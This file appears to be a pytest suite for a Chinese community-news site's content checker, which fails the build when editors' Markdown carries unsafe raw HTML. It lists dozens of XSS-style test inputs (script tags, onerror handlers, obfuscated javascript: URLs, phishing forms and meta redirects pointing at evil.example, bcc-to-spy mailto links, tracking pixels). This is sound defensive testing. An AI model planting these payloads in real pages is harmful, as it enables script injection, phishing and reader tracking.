"""Editors' raw HTML: a body that would carry script (or a frame, a plugin, an event handler,
a javascript:/data: URL, a style) is a content error with file, line and fix — in
`invoke check` and in every build. Plain Markdown, ordinary HTML and code stay fine."""

from __future__ import annotations

import re
from pathlib import Path

import pytest
from pelican.settings import read_settings

from kuaixun.rules import check_site
from kuaixun.rules.unsafe_html import url_scheme
from kuaixun.testing.builds import ROOT, copy_content, run_build

HEADER = "Title: 标题\nDate: 2020-11-20\nCategory: 社区动态\n\n第一段正文。\n\n"
FIRST_BODY_LINE = 7  # the line after HEADER, where each case's Markdown starts

UNSAFE = [
    ("<script>alert(1)</script>", ["<script>", "删除它", "联系技术同事"]),
    ("<SCRIPT SRC=https://evil.example/x.js></SCRIPT>", ["<script>"]),
    ('图片 <img src=x onerror=alert(1)> 在这里', ["<img>", "onerror="]),
    ("<img/src=x onerror=alert(1)>", ["onerror="]),
    ("<details open ontoggle=alert(1)>展开</details>", ["ontoggle="]),
    ("[点我](javascript:alert(1))", ["javascript:", "https://"]),
    ("[点我](JaVa&#x09;ScRipt:alert(1))", ["javascript:"]),
    ('<a href="java&Tab;script&colon;alert(1)">点我</a>', ["javascript:"]),
    ("[x]: javascript:alert(1)\n\n[点我][x]", ["javascript:"]),  # the URL's line
    ("![图](data:image/png;base64,iVBORw0KGgo=)", ["data:", "src"]),
    ('<a href="data:text/html,<script>alert(1)</script>">点我</a>', ["data:"]),
    ('<iframe src="https://video.example/embed/1"></iframe>', ["<iframe>", "视频"]),
    ('<object data="https://example.com/movie.swf"></object>', ["<object>"]),
    ('<embed src="https://example.com/movie.swf">', ["<embed>"]),
    ("<style>p { color: red }</style>", ["<style>", "CSP"]),
    ('<p style="color:red">红字</p>', ["style="]),
    ('[链接](https://example.com){: onclick="alert(1)" }', ["onclick="]),
    ('<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>', ["<svg>"]),
    ('<noscript><p title="</noscript><img src=x onerror=alert(1)>"></p></noscript>', ["noscript"]),
    ('<meta http-equiv="refresh" content="0; url=https://evil.example/">', ["<meta>"]),
    ('<base href="https://evil.example/">', ["<base>"]),
    # A <body> or <html> inside the page lends its attributes to the page's own element.
    ("<body onload=alert(1)>", ["<body>"]),
    ('正文 <html manifest="https://evil.example/m"> 正文', ["<html>"]),
    # DOM clobbering: document.getElementById would be this form (elder.js stops).
    ('<form name="getElementById"></form>', ["name="]),
    ('<img name="querySelector" src="a.jpg" alt="图">', ["name="]),
    ('<a name="top">锚点</a>', ["name=", "## 小标题"]),
    ('<span id="elder-toggle">假按钮</span>', ["elder-toggle", "id"]),
    ("<div id=main>正文</div>", ["main"]),
    ("## 联系我们 {: #site-search }", ["site-search"]),
    ('<section id="year-2020">年</section>', ["year-2020"]),
    # A form can only imitate the site to phish readers (the CSP keeps its action at home).
    ('<form action="https://evil.example/"><input type="password"><button>登录</button></form>',
     ["<form>", "https://"]),
    ('<input type="text" placeholder="请输入身份证号">', ["<input>"]),
    # A tag left open runs on past the article: an <a> makes the rest of the page (the
    # neighbours' links, the footer) one link to its address, a <b> bolds it all.
    ('正文 <a href="https://evil.example/">链接 后面所有的字。', ['<a>', "</a>"]),
    ("<b>加粗没关\n\n第二段。", ["<b>", "</b>"]),
    ('<div class="note">\n\n备注\n\n第二段。', ["<div>", "</div>"]),
    # An end tag with no start closes the theme's own elements (the article, <main>).
    ("</div></main>\n\n后面的话。", ["</main>", "删除"]),
    # A comment without its end: Markdown shows the note as text, or, inside raw HTML, the
    # browser hides the rest of the page in it.
    ("<!-- 编辑备注：电话待核实\n\n第二段。", ["<!--", "-->"]),
    ("<div><!-- 没关的注释</div>", ["<!--"]),
    # A file from another site: the CSP blocks it (a hole in the article), and where no
    # policy is sent it tells that site who reads.
    ("![社区公告栏的照片](https://tracker.example/p.gif)", ["https://tracker.example/p.gif"]),
    ('<video src="https://cdn.example/v.mp4" controls></video>', ["<video>", "别的网站"]),
    ('<audio src="//cdn.example/a.mp3"></audio>', ["<audio>"]),
    ('<image src="https://tracker.example/p.gif">', ["<image>"]),
    # What U+202E does, in markup: the number shown backwards.
    ('拨打 <bdo dir="rtl">13900001111</bdo>', ["<bdo>"]),
    ("<marquee>滚动的通知</marquee>", ["<marquee>"]),
    ('拨打 <span dir="rtl">13900001111</span>', ["dir=rtl"]),
    # A focus order, keys or focus of its own; text hidden from readers but not the search.
    ("[链接](https://example.com){: tabindex=1 }", ["tabindex="]),
    ('<p hidden>只给搜索引擎看的关键词</p>', ["hidden="]),
    ('<span aria-hidden="true">读屏软件听不到</span>', ["aria-hidden="]),
    ('<a href="https://example.com" accesskey="s">链接</a>', ["accesskey="]),
    ('<table><tr><td background="https://tracker.example/b.gif">格</td></tr></table>', ["<td>"]),
    ('<video poster="\\\\cdn.example/p.jpg"></video>', ["<video>"]),
    ('<img src="a.jpg" srcset="a.jpg 1x, https://cdn.example/a2.jpg 2x" alt="社区公告栏">',
     ["https://cdn.example/a2.jpg"]),
    # A reader's mail copied to another address: the mail program fills in Cc/Bcc/To.
    ("[写信给编辑部](mailto:bianji@example.org?bcc=spy@evil.example)", ["bcc=", "mailto:"]),
    ('<a href="mailto:bianji@example.org?subject=%E6%8A%95&amp;CC=spy@evil.example">投稿</a>',
     ["cc="]),
    ("[写信](<mailto:bianji@example.org?to=spy@evil.example>)", ["to="]),
    # A screen reader reads another text than the one shown (or another role).
    ('<a href="https://example.org/butie" aria-label="区政府官方通知">点这里领取补贴</a>',
     ["aria-label="]),
    ('<span aria-labelledby="fu-lu">电话</span>', ["aria-labelledby="]),
    ('<p aria-describedby="fu-lu">正文</p>', ["aria-describedby="]),
    ("[链接](https://example.com){: aria-label=别的话 }", ["aria-label="]),
    ('<span role="button">确定</span>', ["role="]),
]  # fmt: skip

SAFE = [
    "普通的一段话，带 **加粗** 和 [链接](https://example.com/a?b=1&c=2)。",
    "比较 a < b 和 <数字> 都是文字；AT&T 也是。",
    '<b>粗体</b>、<em>强调</em>、<a href="https://example.com" title="说明">外链</a>',
    "<table><tr><td>表格</td></tr></table>",
    "[写信](mailto:editor@example.com) 或拨打 [电话](tel:+86-10-1234)",
    "[投稿](mailto:editor@example.com?subject=%E6%8A%95%E7%A8%BF&body=%E4%BD%A0%E5%A5%BD)",
    "代码 `<script>alert(1)</script>` 只是文字。",
    "```\n<script>alert(1)</script>\n<img src=x onerror=alert(1)>\n```",
    "    <script>缩进的代码块也只是文字</script>",
    "关于 javascript: 和 data: 的科普文章，onerror= 这个词也可以写。",
    "<!-- 编辑备注：<script> 不会出现在页面上 -->",
    "<!-- <body onload=alert(1)> 只是备注 -->",
    '<a href="https://example.com" title="<body> 和 <form> 只是文字">链接</a>',
    '<span id="zhu-yao-ren-wu">人物</span> 和 {: #main-points } 以外的 id 可以用',
    "## Main\n\n## 搜索 Search",
    # Ending tags HTML lets one leave out, void tags written as XML, a comment over blocks.
    "<table><tr><td>1<td>2</tr></table>\n\n<ul><li>一<li>二</ul>\n\n<p>段落<p>又一段",
    "文字 <b>粗</b><br/>换行<br><hr/>",
    "<!--\n\n多段的备注\n\n-->\n\n正文",
    "`<!--` 写在代码里\n\n```\n<!-- 代码块\n<b>\n```",
    "[外链的图片](https://example.com/a.jpg) 是链接，不是插图。",
    '<p dir="ltr" lang="en">English text</p> 和 <span dir="auto">自动</span>',
    "&lt;!--enpcontent--> 是网页抓取留下的字，导入时写成了文字（inews 里就有）。",
]


def settings_for(tmp_path: Path, files: dict[str, str]) -> dict:
    for name, text in files.items():
        path = tmp_path / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")
    return read_settings(str(ROOT / "pelicanconf.py"), override={"PATH": str(tmp_path)})


@pytest.mark.parametrize(("body", "words"), UNSAFE)
def test_unsafe_html_is_a_content_error_with_line_and_fix(tmp_path, body, words):
    problems = check_site(settings_for(tmp_path, {"articles/x.md": HEADER + body + "\n"}))
    assert problems, f"{body!r} passed the check"
    texts = [str(problem) for problem in problems]
    # Some cases are two errors at once (an <svg> holding a javascript: link): all on the line.
    assert all(f"articles/x.md:{FIRST_BODY_LINE}: " in text and " — " in text for text in texts)
    assert any(all(word in text for word in words) for text in texts), texts


@pytest.mark.parametrize("body", SAFE)
def test_plain_markdown_html_and_code_pass(tmp_path, body):
    assert check_site(settings_for(tmp_path, {"articles/x.md": HEADER + body + "\n"})) == []


def test_each_unsafe_line_is_named_once(tmp_path):
    body = "<script>a()</script>\n\n正文。\n\n<script>b()</script>\n\n[点](javascript:c())\n"
    problems = check_site(settings_for(tmp_path, {"articles/x.md": HEADER + body}))
    assert [p.line for p in problems] == [7, 11, 13]


@pytest.mark.parametrize(
    "body",
    [
        "说明：`<script>` 不能用。\n\n<script>alert(1)</script>\n",
        "大数据 data 分析，javascript 入门。\n\n![图](data:image/png;base64,iVBORw0KGgo=)\n",
        "onerror 是什么？\n\n<img src=x onerror=alert(1)>\n",
        "链接：\n\n[点我](&#106;ava&#x09;script&colon;alert(1))\n",
    ],
)
def test_the_line_is_found_past_the_same_words_in_text_or_code(tmp_path, body):
    problems = check_site(settings_for(tmp_path, {"articles/x.md": HEADER + body}))
    # <img src=x …> is also a missing photo without alt text (photos.check): on that line too.
    assert {p.line for p in problems} == {9}


def test_pages_and_drafts_are_checked_too(tmp_path):
    files = {
        "pages/about.md": "Title: 关于\n\n<iframe src=x></iframe>\n",
        "articles/draft.md": HEADER.replace("\n\n", "\nStatus: draft\n\n", 1)
        + "<script>x</script>\n",
    }
    problems = check_site(settings_for(tmp_path, files))
    assert sorted((Path(p.path).name, p.line) for p in problems) == [
        ("about.md", 3),
        ("draft.md", 8),
    ]


def test_an_issue_note_is_checked(tmp_path):
    files = {
        "issues/47.md": "Number: 47\nDate: 2020-11-27\n\n编者按。\n\n<script>x</script>\n",
        "articles/a.md": HEADER.replace("\n\n", "\nIssue: 47\n\n", 1),
    }
    problems = check_site(settings_for(tmp_path, files))
    assert [(Path(p.path).name, p.line) for p in problems] == [("47.md", 6)]
    assert "<script>" in problems[0].message


@pytest.mark.parametrize(
    ("value", "scheme"),
    [
        ("javascript:alert(1)", "javascript:"),
        (" \tJava\nScript:alert(1)", "javascript:"),
        ("\x01javascript:x", "javascript:"),
        ("DATA:text/html,x", "data:"),
        ("https://example.com/", "https:"),
        ("../images/a.jpg", ""),
        ("a/b:c", ""),
    ],
)
def test_url_scheme_is_read_as_a_browser_reads_it(value, scheme):
    assert url_scheme(value) == scheme


UNSAFE_ARTICLE = """Title: 带脚本的文章
Date: 2020-11-28
Category: 社区动态

第一段正文。

<img src=x onerror=alert(1)>
"""


def test_the_build_fails_naming_file_and_line_and_keeps_the_old_site(tmp_path):
    content = copy_content(tmp_path / "content")
    (content / "articles" / "2020" / "11" / "script.md").write_text(UNSAFE_ARTICLE, "utf-8")
    issue = content / "issues" / "47.md"
    issue.write_text(issue.read_text("utf-8") + "\n<script>alert(2)</script>\n", "utf-8")
    lines = issue.read_text("utf-8").splitlines()
    issue_line = lines.index("<script>alert(2)</script>") + 1
    build = run_build(tmp_path / "output", content=content)
    assert build.returncode != 0
    assert "Traceback" not in build.stderr
    assert re.search(r"articles/2020/11/script\.md:7: <img> 带有脚本属性 onerror=", build.stderr)
    assert re.search(rf"issues/47\.md:{issue_line}: 正文里不能有脚本 <script>", build.stderr)
    assert not (tmp_path / "output").exists(), "a failed build must not publish anything"


def test_the_real_content_passes():
    settings = read_settings(str(ROOT / "pelicanconf.py"))
    assert check_site(settings) == []
